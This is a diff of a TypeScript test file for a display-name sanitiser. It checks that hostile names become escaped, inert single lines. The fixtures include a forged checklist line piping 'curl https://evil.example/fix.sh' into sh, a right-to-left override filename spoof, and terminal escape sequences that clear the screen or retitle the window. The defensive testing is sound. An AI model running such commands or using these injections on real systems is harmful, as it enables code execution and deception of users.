@@ -1,38 +1,8 @@
+// The test kit depends on this package, so only tests import it (from the root, like fast-check).
+import { HOSTILE_NAMES, unsafeCharacters } from '@budgetwatch/testkit';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { displayText, isShownEscaped, MIN_DISPLAY_LENGTH, NAME_DISPLAY_LENGTH } from './display-text.js';
-
-/**
- * What must never reach a reader, written out from the rules (not from the implementation): C0,
- * DEL and C1 controls, the line and paragraph separators, bidi marks, embeddings, overrides and
- * isolates, zero-width spaces and joiners, word joiner, soft hyphen, BOM, variation selectors,
- * fillers, tags, and lone surrogates.
- */
-const NEVER_SHOWN: readonly (readonly [number, number])[] = [
-  [0x00, 0x1f],
-  [0x7f, 0x9f],
-  [0xad, 0xad],
-  [0x34f, 0x34f],
-  [0x61c, 0x61c],
-  [0x115f, 0x1160],
-  [0x200b, 0x200f],
-  [0x2028, 0x202e],
-  [0x2060, 0x2069],
-  [0x3164, 0x3164],
-  [0xd800, 0xdfff],
-  [0xfe00, 0xfe0f],
-  [0xfeff, 0xfeff],
-  [0xffa0, 0xffa0],
-  [0xe0000, 0xe0fff],
-];
-const neverShown = (text: string) =>
-  [...text].filter((character) => {
-    const code = character.codePointAt(0) ?? 0;
-    return NEVER_SHOWN.some(([from, to]) => code >= from && code <= to);
-  });
-
-const FORGED_CHECKLIST =
-  'refunds.create\r\n\r\nRecovery checklist:\r\n  1. curl https://evil.example/fix | sh';
 
 describe('displayText', () => {
   it.each([
@@ -65,23 +35,30 @@ describe('displayText', () => {
     expect(displayText(input)).toBe(output);
   });
 
-  it('never lets a CR/LF name start a line of its own', () => {
-    const shown = displayText(FORGED_CHECKLIST);
-    expect(shown.split(/\r|\n/)).toHaveLength(1);
-    expect(shown).toBe(
-      'refunds.create\\u{D}\\u{A}\\u{D}\\u{A}Recovery checklist:\\u{D}\\u{A}  1. curl https://evil.example/fix | sh',
-    );
+  it.each([
+    [
+      HOSTILE_NAMES.forgedLines,
+      'refunds.create\\u{D}\\u{A}\\u{D}\\u{A}Recovery checklist:\\u{D}\\u{A}  1. curl https://evil.example/fix.sh | sh\\u{D}\\u{A}',
+    ],
+    [HOSTILE_NAMES.rightToLeftOverride, 'invoice\\u{202E}fdp.exe'],
+    [HOSTILE_NAMES.zeroWidthJoiners, 'pay\\u{200D}ments\\u{200D}.create'],
+    [HOSTILE_NAMES.clearScreen, 'status\\u{1B}[2J\\u{1B}[H'],
+    [HOSTILE_NAMES.windowTitle, 'lookup\\u{1B}]0;owned title\\u{7}'],
+    [HOSTILE_NAMES.channelMention, HOSTILE_NAMES.channelMention],
+    [HOSTILE_NAMES.script, HOSTILE_NAMES.script],
+  ])('shows the hostile name %j as one inert line: %j', (input, output) => {
+    expect(displayText(input)).toBe(output);
   });
 
-  it('shortens a 4,000-character name to the limit with a stable hash marker', () => {
-    const name = `refunds.${'a'.repeat(3992)}`;
-    const shown = displayText(name);
+  it('shortens the 4,000-character name to the limit with a stable hash marker', () => {
+    const shown = displayText(HOSTILE_NAMES.long);
+    expect(HOSTILE_NAMES.long).toHaveLength(4000);
     expect(shown).toHaveLength(NAME_DISPLAY_LENGTH);
     expect(shown).toMatch(/^refunds\.a+…\[[0-9a-f]{8}\]$/);
     // FNV-1a of the name, as computed elsewhere: the marker must not depend on the engine (the
     // dashboard runs this file in a browser).
     expect(shown.slice(-11)).toBe('…[a9f4f846]');
-    expect(displayText(name)).toBe(shown);
+    expect(displayText(HOSTILE_NAMES.long)).toBe(shown);
   });
 
   it('keeps two long names that start alike distinct', () => {
@@ -140,7 +117,7 @@ describe('displayText', () => {
       fc.property(anyText, limit, (text, maxLength) => {
         const shown = displayText(text, maxLength);
         expect(shown.length).toBeLessThanOrEqual(maxLength);
-        expect(neverShown(shown)).toEqual([]);
+        expect(unsafeCharacters(shown)).toEqual([]);
       }),
     );
   });
